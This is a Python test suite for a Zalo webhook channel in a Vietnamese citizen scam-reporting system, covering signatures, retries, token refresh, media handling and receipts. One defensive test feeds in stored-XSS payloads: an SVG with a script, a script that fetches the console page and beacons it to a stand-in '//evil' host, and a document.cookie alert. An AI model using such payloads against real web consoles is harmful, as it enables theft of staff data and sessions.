"""The Zalo channel: signed webhooks from recorded payloads, background work, and replies
through a fake Zalo server on loopback."""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone

from canhgiac.web.cases.actions import reply
from canhgiac.web.cases.models import Attachment, Case, Message, Reporter
from canhgiac.web.channels.zalo import client as zalo_client
from canhgiac.web.channels.zalo.client import split_text
from canhgiac.web.channels.zalo.signature import expected_signature
from canhgiac.web.intake.models import InboundEvent
from canhgiac.web.tasks.models import Task
from canhgiac.web.tasks.queue import run_pending
from tests.web.conftest import World
from tests.web.fake_zalo import CDN, FakeZalo

FIXTURES = Path(__file__).resolve().parents[2] / "canhgiac" / "web" / "channels" / "zalo" / "fixtures"
SECRET = "oa-secret-key-for-tests"
USER = "8412775920155813771"


def event(name: str, *, timestamp: int | None = None, media: str = CDN, msg_id: str = "") -> bytes:
    """A recorded event, timestamped now; its media links pointed at ``media`` (the fake
    server), and a delivery event naming ``msg_id``."""
    text = (FIXTURES / f"{name}.json").read_text(encoding="utf-8").replace(CDN, media).replace("MSG_ID", msg_id)
    return text.replace("TIMESTAMP", str(timestamp if timestamp is not None else int(time.time() * 1000))).encode()


def deliver(body: bytes, *, signature: str | None = None, slug: str = "zalo-a") -> Any:
    data = json.loads(body)
    if signature is None:
        signature = expected_signature(data["app_id"], body, str(data["timestamp"]), SECRET)
    return Client().post(f"/channels/zalo/{slug}/webhook", data=body, content_type="application/json", HTTP_X_ZEVENT_SIGNATURE=signature)


def run_tasks() -> None:
    """Run what is queued, including retries whose backoff has not passed yet."""
    Task.objects.filter(status=Task.Status.QUEUED).update(run_after=timezone.now())
    run_pending()


def test_signed_event_is_stored_acknowledged_then_answered(world: World, zalo: FakeZalo) -> None:
    response = deliver(event("user_send_text"))
    assert response.status_code == 200 and response.json() == {"status": "ok"}
    assert InboundEvent.objects.count() == 1 and Case.objects.count() == 0  # work is deferred
    run_tasks()
    case = Case.objects.get()
    assert case.channel == world.zalo_a and case.intent == "scam_check" and case.verdict == "scam"
    assert case.reporter.channel_user_id() == USER and USER not in case.reporter.channel_user_sealed
    answer = case.messages.get(direction=Message.Direction.AUTO)
    assert answer.delivery == Message.Delivery.SENT
    assert len(zalo.sent) == 1
    sent = zalo.sent[0]
    assert sent["access_token"] == "access-token-1"
    assert sent["body"]["recipient"] == {"user_id": USER, "message_id": "a1b2c3d4e5f60718293a4b5c6d7e8f90"}
    assert sent["body"]["message"]["quote_message_id"] == "a1b2c3d4e5f60718293a4b5c6d7e8f90"  # the reply quotes the question
    assert "LỪA ĐẢO" in sent["body"]["message"]["text"]


@pytest.mark.parametrize("prefix", ["", "mac=", "MAC= "])
def test_signature_with_or_without_mac_prefix(world: World, zalo: FakeZalo, prefix: str) -> None:
    body = event("user_send_text")
    data = json.loads(body)
    signature = prefix + expected_signature(data["app_id"], body, data["timestamp"], SECRET)
    assert deliver(body, signature=signature).status_code == 200


@pytest.mark.parametrize("signature", ["", "0" * 64, "mac=" + "f" * 64, "not-hex"])
def test_bad_signatures_are_rejected_and_nothing_is_stored(world: World, zalo: FakeZalo, signature: str) -> None:
    response = deliver(event("user_send_text"), signature=signature)
    assert response.status_code == 401 and response.json() == {"error": "bad_signature"}
    assert InboundEvent.objects.count() == 0


def test_signature_over_a_tampered_body_fails(world: World, zalo: FakeZalo) -> None:
    body = event("user_send_text")
    data = json.loads(body)
    signature = expected_signature(data["app_id"], body, data["timestamp"], SECRET)
    tampered = body.replace("lừa đảo".encode(), b"that khong")
    assert deliver(tampered, signature=signature).status_code == 401


def test_stale_event_is_rejected(world: World, zalo: FakeZalo) -> None:
    old = event("user_send_text", timestamp=int((time.time() - 3600) * 1000))
    response = deliver(old)
    assert response.status_code == 401 and response.json() == {"error": "stale"}
    assert InboundEvent.objects.count() == 0


def test_malformed_bodies(world: World, zalo: FakeZalo) -> None:
    client = Client()
    assert client.post("/channels/zalo/zalo-a/webhook", data=b"{not json", content_type="application/json").status_code == 400
    assert client.post("/channels/zalo/zalo-a/webhook", data=b"[1]", content_type="application/json").status_code == 400
    assert client.post("/channels/zalo/nowhere/webhook", data=b"{}", content_type="application/json").status_code == 404
    assert client.get("/channels/zalo/zalo-a/webhook").status_code == 405
    assert InboundEvent.objects.count() == 0


def test_replayed_event_changes_nothing(world: World, zalo: FakeZalo) -> None:
    body = event("user_send_text")
    assert deliver(body).json() == {"status": "ok"}
    assert deliver(body).json() == {"status": "duplicate"}
    run_tasks()
    assert deliver(body).json() == {"status": "duplicate"}
    run_tasks()
    assert InboundEvent.objects.count() == 1 and Case.objects.count() == 1
    assert Message.objects.filter(direction=Message.Direction.IN).count() == 1
    assert len(zalo.sent) == 1


def test_follow_up_threads_into_the_open_case(world: World, zalo: FakeZalo) -> None:
    deliver(event("user_send_text"))
    run_tasks()
    deliver(event("user_send_text_followup"))
    run_tasks()
    case = Case.objects.get()
    assert case.messages.filter(direction=Message.Direction.IN).count() == 2
    assert "+84889123456" not in json.dumps(case.indicators)  # indicators are the first message's
    assert case.unread


def test_follow_subscribes_a_known_user(world: World, zalo: FakeZalo) -> None:
    deliver(event("user_send_text"))
    run_tasks()
    deliver(event("follow"))
    run_tasks()
    assert Reporter.objects.get().subscribed is True


def test_officer_reply_goes_out_through_zalo(world: World, zalo: FakeZalo) -> None:
    deliver(event("user_send_text"))
    run_tasks()
    case = Case.objects.get()
    message = reply(case, world.officer_a, "Đây là lừa đảo, chị đừng bấm link nhé.")
    assert message.delivery == Message.Delivery.PENDING
    run_tasks()
    message.refresh_from_db()
    assert message.delivery == Message.Delivery.SENT
    assert zalo.texts()[-1] == "Đây là lừa đảo, chị đừng bấm link nhé."


def test_long_reply_is_split_and_never_sent_twice(world: World, zalo: FakeZalo) -> None:
    deliver(event("user_send_text"))
    run_tasks()
    case = Case.objects.get()
    long_text = "\n".join(f"Dòng {i}: " + "cảnh giác với lừa đảo qua mạng " * 5 for i in range(30))
    assert len(long_text) > 4000
    zalo.sent.clear()
    message = reply(case, world.officer_a, long_text)
    zalo.fail_next = 0
    # The second part fails twice; the first must not be sent again on retry.
    original = zalo_client.ZaloClient.send_text
    calls = {"n": 0}

    def flaky(self: Any, user_id: str, text: str, reply_to: str = "") -> str:
        calls["n"] += 1
        if calls["n"] in (2, 3):
            raise zalo_client.ZaloError(-1, "network")
        return original(self, user_id, text, reply_to)

    zalo_client.ZaloClient.send_text = flaky  # type: ignore[method-assign]
    try:
        for _ in range(4):
            run_tasks()
    finally:
        zalo_client.ZaloClient.send_text = original  # type: ignore[method-assign]
    message.refresh_from_db()
    parts = split_text(long_text)
    assert message.delivery == Message.Delivery.SENT and len(parts) >= 3
    assert zalo.texts() == parts
    # Every part's id is kept, across the retries, in order: delivery events name them.
    assert message.provider_ids == [f"oa-msg-{n}" for n in range(1, len(parts) + 1)] and message.provider_id == "oa-msg-1"
    assert all(len(p) <= 2000 for p in parts)


def test_zalo_down_then_up_sends_once(world: World, zalo: FakeZalo) -> None:
    zalo.fail_next = 3
    deliver(event("user_send_text"))
    run_pending()  # processes the event; the reply fails and is rescheduled with backoff
    task = Task.objects.get(kind="channel.send")
    assert task.status == Task.Status.QUEUED and task.run_after > timezone.now() and task.attempts == 1
    for _ in range(5):
        run_tasks()
    assert len(zalo.sent) == 1
    assert Message.objects.get(direction=Message.Direction.AUTO).delivery == Message.Delivery.SENT


def test_slow_zalo_times_out_and_retries(world: World, zalo: FakeZalo, monkeypatch: Any) -> None:
    monkeypatch.setattr(zalo_client, "TIMEOUT", 0.5)
    zalo.stall_next = 1
    zalo.stall_seconds = 1.5
    deliver(event("user_send_text"))
    run_pending()
    assert len(zalo.sent) == 0
    time.sleep(1.2)  # let the stalled request finish on the server side
    run_tasks()
    assert len(zalo.sent) == 1


def test_expired_token_is_refreshed(world: World, zalo: FakeZalo) -> None:
    zalo.valid_tokens = set()  # access-token-1 no longer accepted
    deliver(event("user_send_text"))
    run_tasks()
    assert len(zalo.refreshes) == 1
    refresh = zalo.refreshes[0]
    assert refresh == {
        "refresh_token": "refresh-token-1",
        "app_id": "4321098765",
        "grant_type": "refresh_token",
        "secret_key": "app-secret-for-tests",
    }
    assert zalo.sent[0]["access_token"] == "access-token-2"
    world.zalo_a.refresh_from_db()
    assert world.zalo_a.secret("refresh_token") == "refresh-token-2"


def test_a_worker_with_an_old_copy_of_the_channel_takes_the_new_token(world: World, zalo: FakeZalo) -> None:
    """Zalo's refresh token is good once: a worker that read the channel before another
    refreshed it takes the new tokens instead of spending the old refresh token again."""
    from canhgiac.web.channels.zalo.client import ZaloClient
    from canhgiac.web.intake.models import Channel

    old = ZaloClient(Channel.objects.get(pk=world.zalo_a.pk))
    ZaloClient(Channel.objects.get(pk=world.zalo_a.pk)).refresh()
    old.refresh()
    assert [r["refresh_token"] for r in zalo.refreshes] == ["refresh-token-1"]
    assert old.access_token() == "access-token-2" and old.channel.secret("refresh_token") == "refresh-token-2"


def test_per_user_rate_limit_keeps_the_event_but_opens_nothing(world: World, zalo: FakeZalo, settings: Any) -> None:
    settings.CANHGIAC_INTAKE_RATE = 1
    deliver(event("user_send_text"))
    deliver(event("user_send_text_followup"))
    run_tasks()
    assert InboundEvent.objects.count() == 2
    assert InboundEvent.objects.filter(error="rate_limited").count() == 1
    assert Message.objects.filter(direction="in").count() == 1


def test_split_text_respects_the_limit() -> None:
    assert split_text("ngắn") == ["ngắn"]
    parts = split_text("a" * 4500)
    assert [len(p) for p in parts] == [2000, 2000, 500]
    words = split_text(("xin chào " * 500).strip())
    assert all(len(p) <= 2000 for p in words) and " ".join(words) == ("xin chào " * 500).strip()


def test_a_victim_on_zalo_gets_victim_advice_and_an_urgent_fraud_case(world: World, zalo: FakeZalo) -> None:
    data = json.loads(event("user_send_text"))
    data["message"]["text"] = "em vừa ck 3tr cọc thuê nhà qua mạng 30 phút trước xong bị block zalo rồi, STK 1903456789012 Techcombank"
    deliver(json.dumps(data, ensure_ascii=False).encode())
    run_tasks()
    case = Case.objects.get()
    assert case.intent == "tip" and case.category == "fraud" and case.urgent
    sent = zalo.sent[0]["body"]["message"]["text"]
    assert "tổng đài" in sent and "1903456789012" in sent
    assert "LỪA ĐẢO" not in sent and "Không chuyển tiền" not in sent


# --------------------------------------------------- commands as people type them (issue 10)

_IDS = iter(range(10_000, 20_000))


def said(text: str) -> bytes:
    data = json.loads(event("user_send_text"))
    data["message"] = {"text": text, "msg_id": f"cmd-{next(_IDS)}"}
    return json.dumps(data, ensure_ascii=False).encode()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("dang ky nhan tin canh bao", True),
        ("Đăng ký nhận tin cảnh báo!", True),
        ("cho toi nhan canh bao", True),
        ("Cho tôi nhận cảnh báo ạ", True),
        ("nhận bản tin", True),
        ("DK", True),
        ("huy nhan tin", False),
        ("HUY", False),
        ("Dừng nhận", False),
        ("không nhận nữa", False),
        ("Đúng", None),  # "dung" is a confirmed answer, never "dừng"
        ("nhận", None),
        ("đăng ký xe máy cần giấy tờ gì", None),
        ("Cho em hỏi thủ tục đăng ký tạm trú", None),
        ("Có người lạ đăng ký tạm trú giả ở nhà số 5", None),
    ],
)
def test_commands_are_understood_as_typed(text: str, expected: bool | None) -> None:
    from canhgiac.web.channels.dispatch import command

    assert command(text) is expected


def test_typed_commands_subscribe_and_stop_without_a_case(world: World, zalo: FakeZalo) -> None:
    deliver(said("cho tôi nhận cảnh báo"))
    run_tasks()
    assert Reporter.objects.get().subscribed is True and Case.objects.count() == 0
    assert "đã đăng ký nhận bản tin" in zalo.texts()[-1]
    deliver(said("huỷ nhận tin"))
    run_tasks()
    assert Reporter.objects.get().subscribed is False and Case.objects.count() == 0
    deliver(said("Cho em hỏi đăng ký xe máy cần giấy tờ gì?"))  # a question, not a command
    run_tasks()
    assert Case.objects.count() == 1 and Reporter.objects.get().subscribed is False


def test_every_follow_up_text_gets_the_same_acknowledgement(world: World, zalo: FakeZalo) -> None:
    deliver(said("Có người lạ cạy khóa xe máy ở chợ Đồng, đi xe Wave màu đỏ"))
    run_tasks()
    case = Case.objects.get()
    for text in ("Họ có 2 người, đội mũ đen", "Em hỏi chút là có cần ra công an xã không?", "cảm ơn"):
        deliver(said(text))
    run_tasks()
    answers = list(case.messages.filter(direction=Message.Direction.AUTO).order_by("id").values_list("body", flat=True))
    assert len(answers) == 4
    assert set(answers[1:]) == {f"Đã nhận thêm thông tin cho tin {case.reference}."}


# ------------------------------------------------------- every event, media, receipts (issue 13)

SENDER = "2290447718326650012"  # the citizen of the media fixtures


def _jpeg_with_gps() -> bytes:
    import io

    from PIL import Image

    image = Image.new("RGB", (120, 80), (20, 120, 200))
    exif = image.getexif()
    exif[0x010F] = "PhoneMaker"  # camera make
    exif.get_ifd(0x8825)[2] = (21.0, 1.0, 39.0)  # GPS latitude: what re-encoding must drop
    out = io.BytesIO()
    image.save(out, format="JPEG", exif=exif)
    return out.getvalue()


def thread_page(world: World, case: Case) -> str:
    return str(world.client(world.officer_a).get(f"/console/case/{case.reference}/").content.decode())


def test_photo_is_kept_without_exif_and_still_shown_after_the_link_expires(world: World, zalo: FakeZalo) -> None:
    original = _jpeg_with_gps()
    assert b"Exif" in original and b"PhoneMaker" in original
    zalo.media["/photo/123.jpg"] = (original, "image/jpeg")
    assert deliver(event("user_send_image", media=zalo.url)).status_code == 200
    run_tasks()
    case = Case.objects.get()
    assert case.intent == "tip" and case.category == "gambling"
    photo = Attachment.objects.get(message__case=case)
    assert photo.remote_url == "" and photo.file and (photo.width, photo.height) == (120, 80)
    stored = photo.file.read()
    assert stored[:2] == b"\xff\xd8" and b"Exif" not in stored and b"PhoneMaker" not in stored
    zalo.media_expired = True  # Zalo's link is gone: the evidence is not
    page = thread_page(world, case)
    assert f'src="/console/attachment/{photo.pk}/"' in page
    shown = world.client(world.officer_a).get(f"/console/attachment/{photo.pk}/")
    assert shown.status_code == 200 and shown.getvalue() == stored
    assert shown["Content-Type"] == "image/jpeg" and not shown.get("Content-Disposition", "").startswith("attachment")
    assert shown["Content-Security-Policy"] == "sandbox" and shown["X-Content-Type-Options"] == "nosniff"
    assert zalo.downloads == ["/photo/123.jpg"]  # fetched once, when the event was processed


def test_a_photo_whose_link_expired_before_processing_is_said_plainly(world: World, zalo: FakeZalo) -> None:
    zalo.media_expired = True
    deliver(event("user_send_image", media=zalo.url))
    run_tasks()
    message = Message.objects.get(direction=Message.Direction.IN)
    assert "[Không tải được ảnh người dân gửi qua Zalo OA: đường dẫn đã hết hạn.]" in message.body
    assert not Attachment.objects.exists() and Case.objects.get().category == "gambling"  # the text is still analysed


def test_location_is_the_messages_place_not_text(world: World, zalo: FakeZalo) -> None:
    deliver(event("user_send_location"))
    run_tasks()
    case = Case.objects.get()
    message = case.messages.get(direction=Message.Direction.IN)
    assert (message.latitude, message.longitude) == (21.0277, 105.8341)
    assert message.body == "Chỗ này đang có đánh nhau" and "105.8341" not in case.search_text
    assert "https://www.openstreetmap.org/?mlat=21.02770&amp;mlon=105.83410" in thread_page(world, case)


def test_a_location_alone_opens_a_case(world: World, zalo: FakeZalo) -> None:
    data = json.loads(event("user_send_location"))
    data["message"].pop("text")
    deliver(json.dumps(data).encode())
    run_tasks()
    message = Message.objects.get(direction=Message.Direction.IN)
    assert message.has_location and message.body == "" and InboundEvent.objects.get().error == ""


def test_anonymous_text_opens_a_case(world: World, zalo: FakeZalo) -> None:
    deliver(event("anonymous_send_text"))
    run_tasks()
    case = Case.objects.get()
    assert case.intent == "tip" and "khai thác cát" in case.messages.get(direction="in").body
    assert zalo.sent[-1]["body"]["recipient"] == {"user_id": SENDER, "message_id": "anon0a1b2c3d4e5f60718293a4b5c6d7e"}


def test_a_shared_link_is_read_as_text_for_the_scam_check(world: World, zalo: FakeZalo) -> None:
    deliver(event("user_send_link"))
    run_tasks()
    case = Case.objects.get()
    assert "https://vcb-mokhoa.top/xac-thuc" in case.messages.get(direction="in").body
    assert "vcb-mokhoa.top" in json.dumps(case.indicators)
    assert not Attachment.objects.exists()


@pytest.mark.parametrize(
    ("name", "path", "mime", "kept_as", "label"),
    [
        ("user_send_audio", "/voice/321.aac", "audio/aac", "audio/aac", "Đoạn ghi âm"),
        ("user_send_video", "/video/654.mp4", "video/mp4", "video/mp4", "Đoạn video"),
        ("user_send_file", "/file/987.pdf", "application/octet-stream", "application/pdf", "Tệp: giay-bao-no.pdf"),
    ],
)
def test_recordings_videos_and_files_are_kept(
    world: World, zalo: FakeZalo, name: str, path: str, mime: str, kept_as: str, label: str
) -> None:
    content = b"\x00\x01recorded bytes " + name.encode()
    zalo.media[path] = (content, mime)
    deliver(event(name, media=zalo.url))
    run_tasks()
    item = Attachment.objects.get()
    assert item.content_type == kept_as and item.size == len(content) and item.file.read() == content
    zalo.media_expired = True
    assert label in thread_page(world, Case.objects.get())
    response = world.client(world.officer_a).get(f"/console/attachment/{item.pk}/")
    assert response.status_code == 200 and response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment;")  # downloaded, never rendered in the console
    assert world.client(world.officer_b).get(f"/console/attachment/{item.pk}/").status_code == 404


@pytest.mark.parametrize(
    ("name", "mime", "content"),
    [
        ("anh.svg", "image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/console/")</script></svg>'),
        ("x.js", "text/javascript", b'fetch("/console/").then(r => r.text()).then(t => navigator.sendBeacon("//evil", t))'),
        ("trang.html", "text/html", b"<script>alert(document.cookie)</script>"),
    ],
)
def test_a_file_that_could_run_in_the_console_is_only_ever_a_download(
    world: World, zalo: FakeZalo, name: str, mime: str, content: bytes
) -> None:
    """An attacker sends an SVG or a script over Zalo, declared as such both in the event
    and by the server: it is kept as bytes and served so that no browser runs it."""
    zalo.media["/file/987.pdf"] = (content, mime)
    data = json.loads(event("user_send_file", media=zalo.url))
    data["message"]["attachments"][0]["payload"].update({"name": name, "type": mime})
    deliver(json.dumps(data).encode())
    run_tasks()
    item = Attachment.objects.get()
    assert item.content_type == "application/octet-stream" and item.file.read() == content and not item.is_image
    page = thread_page(world, Case.objects.get())
    assert f'src="/console/attachment/{item.pk}/"' not in page and f'href="/console/attachment/{item.pk}/"' in page
    response = world.client(world.officer_a).get(f"/console/attachment/{item.pk}/")
    assert response.status_code == 200 and response.getvalue() == content
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["Content-Security-Policy"] == "sandbox" and response["X-Content-Type-Options"] == "nosniff"


def test_an_svg_stored_before_the_fix_is_not_served_as_an_image(world: World, zalo: FakeZalo) -> None:
    zalo.media["/file/987.pdf"] = (b"<svg/>", "application/pdf")
    deliver(event("user_send_file", media=zalo.url))
    run_tasks()
    Attachment.objects.update(content_type="image/svg+xml")
    item = Attachment.objects.get()
    response = world.client(world.officer_a).get(f"/console/attachment/{item.pk}/")
    assert response["Content-Type"] == "application/octet-stream" and response["Content-Disposition"].startswith("attachment;")


def test_a_file_over_the_limit_is_not_kept_and_the_case_says_why(world: World, zalo: FakeZalo, settings: Any) -> None:
    settings.CANHGIAC_MAX_CHANNEL_FILE_BYTES = 1_000_000
    zalo.media["/video/654.mp4"] = (b"v" * 1_000_001, "video/mp4")
    deliver(event("user_send_video", media=zalo.url))
    run_tasks()
    message = Message.objects.get(direction=Message.Direction.IN)
    assert message.body.startswith("Clip nhóm thanh niên đua xe")
    assert "[Không lưu đoạn video người dân gửi: lớn hơn giới hạn 1,0 MB.]" in message.body
    assert not Attachment.objects.exists()
    data = json.loads(event("user_send_file", media=zalo.url))  # the size Zalo gives: not even fetched
    data["message"]["attachments"][0]["payload"]["size"] = "3500000"
    deliver(json.dumps(data).encode())
    run_tasks()
    assert "[Không lưu tệp người dân gửi (3,5 MB): lớn hơn giới hạn 1,0 MB.]" in Message.objects.filter(direction="in").last().body  # type: ignore[union-attr]
    assert "/file/987.pdf" not in zalo.downloads


@pytest.mark.parametrize("name", ["user_send_sticker", "user_send_gif"])
def test_stickers_and_gifs_are_noted_not_stored(world: World, zalo: FakeZalo, name: str) -> None:
    deliver(event(name, media=zalo.url))
    run_tasks()
    message = Message.objects.get(direction=Message.Direction.IN)
    assert message.body == "[Người dân gửi một nhãn dán (sticker); nhãn dán không được lưu.]"
    assert not Attachment.objects.exists() and zalo.downloads == []


def _answered(world: World, zalo: FakeZalo) -> tuple[Case, Message]:
    deliver(event("user_send_text"))
    run_tasks()
    case = Case.objects.get()
    return case, case.messages.get(direction=Message.Direction.AUTO)


def test_delivery_and_seen_events_show_one_then_two_ticks(world: World, zalo: FakeZalo) -> None:
    case, answer = _answered(world, zalo)
    assert (answer.provider_id, answer.provider_ids) == ("oa-msg-1", ["oa-msg-1"])
    assert "✓" not in thread_page(world, case)
    assert deliver(event("user_received_message", msg_id="oa-msg-1")).json() == {"status": "ok"}
    run_tasks()
    answer.refresh_from_db()
    assert answer.delivered_at is not None and answer.read_at is None
    page = thread_page(world, case)
    assert 'title="Đã đến máy người dân' in page and "✓✓" not in page
    deliver(event("user_seen_message", msg_id="oa-msg-1"))
    run_tasks()
    answer.refresh_from_db()
    assert answer.read_at is not None
    assert 'title="Người dân đã xem' in thread_page(world, case) and "✓✓" in thread_page(world, case)
    assert Case.objects.count() == 1 and case.messages.count() == 2  # a receipt is not a message


def test_receipts_for_unknown_ids_or_another_channel_change_nothing(world: World, zalo: FakeZalo) -> None:
    from canhgiac.web.intake.models import Channel

    _case, answer = _answered(world, zalo)
    other = Channel.objects.create(unit=world.commune_b, kind=Channel.Kind.ZALO, slug="zalo-b", name="Zalo xã B", app_id="4321098765")
    other.set_secret("oa_secret", SECRET)
    other.save()
    deliver(event("user_seen_message", msg_id="oa-msg-1"), slug="zalo-b")  # another OA's message of that id
    deliver(event("user_received_message", msg_id="oa-msg-999"))
    run_tasks()
    answer.refresh_from_db()
    assert answer.delivered_at is None and answer.read_at is None


def test_officer_replies_with_a_photo_uploaded_first_and_quoting_the_citizen(world: World, zalo: FakeZalo) -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile

    case, _answer = _answered(world, zalo)
    deliver(event("user_send_text_followup"))
    run_tasks()
    client = world.client(world.officer_a)
    photo = SimpleUploadedFile("anh.jpg", _jpeg_with_gps(), "image/jpeg")
    response = client.post(f"/console/case/{case.reference}/action/", {"action": "reply", "body": "Số này đã bị báo cáo.", "photo": photo})
    assert response.status_code == 302
    run_tasks()
    message = case.messages.filter(direction=Message.Direction.OUT).get()
    assert message.delivery == Message.Delivery.SENT and message.provider_ids == ["oa-msg-3", "oa-msg-4"]
    text, image = zalo.sent[-2]["body"]["message"], zalo.sent[-1]["body"]["message"]
    assert text == {"text": "Số này đã bị báo cáo.", "quote_message_id": "f0e1d2c3b4a5968778695a4b3c2d1e0f"}  # the latest message
    element = image["attachment"]["payload"]["elements"][0]
    assert element == {"media_type": "image", "attachment_id": "att-1"}
    upload = zalo.uploads[0]
    assert upload["content_type"].startswith("multipart/form-data") and b'name="file"' in upload["body"]
    assert b"PhoneMaker" not in upload["body"]  # the officer's photo is re-encoded too
    refused = client.post(
        f"/console/case/{case.reference}/action/", {"action": "reply", "body": "x", "photo": SimpleUploadedFile("a.jpg", b"no")}
    )
    assert refused.status_code == 400 and "Tệp không phải là ảnh hợp lệ" in refused.content.decode()


def test_a_photo_reply_is_refused_where_nothing_is_sent(world: World) -> None:
    from canhgiac.web.cases.actions import ActionError
    from canhgiac.web.core.images import clean_image

    received = world.tip()
    with pytest.raises(ActionError):
        reply(received.case, world.officer_a, "", image=clean_image(_jpeg_with_gps(), 10_000_000))


def test_bulletin_page_shows_received_and_read_from_zalos_events(world: World, zalo: FakeZalo) -> None:
    from canhgiac.web.bulletins import sending
    from canhgiac.web.bulletins.models import Bulletin, Delivery
    from tests.web.test_bulletins import subscribe

    subscribe("1001", "1002", "1003")
    item = Bulletin.objects.create(unit=world.commune_a, title="Cảnh báo giả danh", body="Không chuyển tiền.", created_by=world.officer_a)
    sending.send(item, world.officer_a)
    run_tasks()
    run_tasks()
    ids = dict(Delivery.objects.values_list("reporter__pk", "provider_id"))
    assert len(ids) == 3 and all(i.startswith("oa-msg-") for i in ids.values())
    first, second, _third = (ids[pk] for pk in sorted(ids))
    deliver(event("user_received_message", msg_id=first))
    deliver(event("user_received_message", msg_id=second))
    deliver(event("user_seen_message", msg_id=second))
    run_tasks()
    progress = sending.progress([item])[item.pk]
    assert (progress.sent, progress.received, progress.read) == (3, 2, 1)
    page = world.client(world.officer_a).get("/console/bulletins/").content.decode()
    assert '<td class="receipts">2 / 1</td>' in page


def test_expired_token_216_is_refreshed_and_the_send_made_once_more(world: World, zalo: FakeZalo) -> None:
    zalo.expired_next = 1  # access-token-1 is still "valid", but Zalo says -216 once
    deliver(event("user_send_text"))
    run_tasks()
    assert len(zalo.refreshes) == 1 and len(zalo.sent) == 1
    assert zalo.sent[0]["access_token"] == "access-token-2"
    assert Message.objects.get(direction=Message.Direction.AUTO).delivery == Message.Delivery.SENT
    world.zalo_a.refresh_from_db()
    assert world.zalo_a.last_send_error_at is None


def test_a_refused_refresh_marks_the_channel_unhealthy_for_officers(world: World, zalo: FakeZalo) -> None:
    from canhgiac.web.intake import health

    zalo.valid_tokens = set()
    zalo.refuse_refresh = True
    deliver(event("user_send_text"))
    run_tasks()
    assert zalo.sent == [] and len(zalo.refreshes) == 1
    [failing] = health.failing([world.commune_a.pk])
    assert failing.channel == world.zalo_a and "-4" in failing.error
    assert failing.advice.startswith("Không làm mới được mã truy cập của kênh")
    page = world.client(world.officer_a).get("/console/").content.decode()
    assert f'id="channel-health-{world.zalo_a.pk}"' in page and "Không làm mới được mã truy cập" in page
    answer = Message.objects.get(direction=Message.Direction.AUTO)
    assert answer.delivery == Message.Delivery.PENDING and "refresh refused" in answer.delivery_error  # retried later


def test_old_task_kinds_queued_before_the_adapter_still_run(world: World, zalo: FakeZalo) -> None:
    from canhgiac.web.tasks.queue import enqueue

    stored = InboundEvent.objects.create(
        channel=world.zalo_a,
        external_id="a1b2c3d4e5f60718293a4b5c6d7e8f90",
        event_name="user_send_text",
        payload=json.loads(event("user_send_text")),
    )
    enqueue("zalo.process_event", {"event_id": stored.pk}, dedupe_key=f"zalo.event:{stored.pk}")
    run_pending()
    case = Case.objects.get()
    assert len(zalo.sent) == 1  # the answer went out through the new task
    message = Message.objects.create(case=case, direction=Message.Direction.OUT, body="Trả lời cũ", delivery=Message.Delivery.PENDING)
    enqueue(
        "zalo.send_message",
        {"message_id": message.pk, "reply_to": "a1b2c3d4e5f60718293a4b5c6d7e8f90"},
        dedupe_key=f"zalo.send:{message.pk}",
    )
    enqueue("zalo.send_text", {"reporter_id": case.reporter.pk, "text": "Xác nhận cũ", "reply_to": ""})
    run_pending()
    message.refresh_from_db()
    assert message.delivery == Message.Delivery.SENT and zalo.texts()[-2:] == ["Trả lời cũ", "Xác nhận cũ"]
    assert not Task.objects.exclude(status=Task.Status.DONE).exists()
